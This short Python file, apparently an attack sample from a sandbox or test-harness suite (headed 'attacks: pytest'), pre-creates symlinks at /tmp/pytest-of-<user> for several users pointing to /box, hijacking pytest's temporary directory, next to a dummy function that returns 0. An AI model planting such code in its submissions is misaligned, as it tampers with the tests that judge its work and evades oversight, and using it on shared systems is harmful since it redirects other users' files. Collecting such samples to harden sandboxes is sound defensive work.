# Takes the folder that pytest makes for temporary paths, with a link to elsewhere.
# attacks: pytest
# cpu_s: 10
import os

for user in ("unknown", "root", str(os.getuid())):
    try: os.symlink("/box", f"/tmp/pytest-of-{user}")
    except OSError: pass

def f(a, b): return 0
